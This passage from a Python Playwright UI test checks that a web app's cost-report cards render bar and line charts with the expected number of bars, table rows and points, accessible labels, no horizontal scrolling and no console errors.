        expect(card).to_have_attribute("data-status", "completed", timeout=RUN_MS)
        bars = card.locator(".report figure.chart svg[role='img'] rect.chart-bar")
        expect(bars).to_have_count(3)
        rows = card.locator(".report table tbody tr")
        expect(rows).to_have_count(3)
        label = card.locator(".report figure.chart svg").get_attribute("aria-label") or ""
        first_model = rows.first.locator("td").first.inner_text()
        assert label.startswith(f"cost chart. {first_model}: $")
        send(page, "daily cost last 7 days")
        card = page.locator(".run-card").last
        expect(card).to_have_attribute("data-status", "completed", timeout=RUN_MS)
        expect(card.locator(".report svg.chart-line circle.chart-point")).to_have_count(7)
        card.locator(".report figure.chart").scroll_into_view_if_needed()
        tab.shot(f"{name}-chart")
        assert no_horizontal_scroll(page)
        assert not [line for line in tab.console if line.startswith(("error", "pageerror"))]
